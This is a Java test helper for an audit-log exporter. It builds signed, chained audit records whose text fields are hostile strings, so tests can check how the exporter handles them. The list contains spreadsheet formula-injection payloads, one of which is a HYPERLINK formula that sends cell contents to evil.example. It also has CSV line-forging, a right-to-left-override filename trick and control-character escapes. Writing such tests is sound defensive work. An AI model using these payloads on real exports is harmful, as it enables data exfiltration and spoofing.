package dev.revo.engine.tenancy.export;

import dev.revo.audit.AuditRecord;
import dev.revo.audit.verifier.ChainHead;
import dev.revo.audit.verifier.Checkpoint;
import dev.revo.audit.verifier.SignerKey;
import dev.revo.scope.Principal;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;

/** Records with hostile texts, and the chain over them. */
final class Records {
    static final SignerKey SIGNER = SignerKey.generate("revo/test");
    static final String RLO = "\u202e";
    static final String LONG = "x".repeat(1 << 20);
    static final List<String> HOSTILE = List.of(
            "plain",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "\u200b=1",
            "\ufeff=1",
            "\uff1d1+1",
            "\uff0b1",
            "\uff0d1",
            "\uff201",
            "a\r\nforged,line",
            "quote \" and, comma; semicolon",
            "txt" + RLO + "exe.gpj",
            "\u4e2d\u6587\u5b57\u7b26 \ud83d\ude00",
            "nul\u0000bell\u0007esc\u001b[2J",
            "lone\ud800half",
            "",
            LONG);

    private Records() {}

    static AuditRecord record(int number, String action, String text, AuditRecord.Result result) {
        return new AuditRecord(
                new UUID(0, number),
                Instant.parse("2026-01-01T12:00:00.123456Z").plusSeconds(number),
                "acme",
                "ada",
                List.of(Principal.Kind.USER, Principal.Kind.SERVICE, Principal.Kind.SYSTEM)
                        .get(number % 3),
                action,
                text,
                result,
                number % 2 == 0 ? Optional.empty() : Optional.of("run-" + number),
                Map.of("rule", "r1"));
    }

    /** One record for each hostile text. */
    static List<ChainEntry> hostile() {
        List<AuditRecord> records = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            records.add(record(i + 1, "memory:read", HOSTILE.get(i), AuditRecord.Result.DONE));
        }
        return chain(records);
    }

    /** The records, and one checkpoint at the end. */
    static List<ChainEntry> chain(List<AuditRecord> records) {
        List<ChainEntry> entries = new ArrayList<>();
        ChainHead head = ChainHead.start();
        for (AuditRecord record : records) {
            ChainHead next = head.then(AuditRows.from(record));
            entries.add(new ChainedRecord(next.seq(), record, head.last(), next.last()));
            head = next;
        }
        Checkpoint checkpoint = head.checkpoint(Checkpoint.origin("test", "acme"), Instant.EPOCH);
        entries.add(ChainCheckpoint.of(checkpoint.sign(SIGNER)));
        return entries;
    }

    static byte[] written(AuditExporter exporter, List<ChainEntry> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            exporter.write(entries.iterator(), out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static String text(AuditExporter exporter, List<ChainEntry> entries) {
        return new String(written(exporter, entries), StandardCharsets.UTF_8);
    }
}
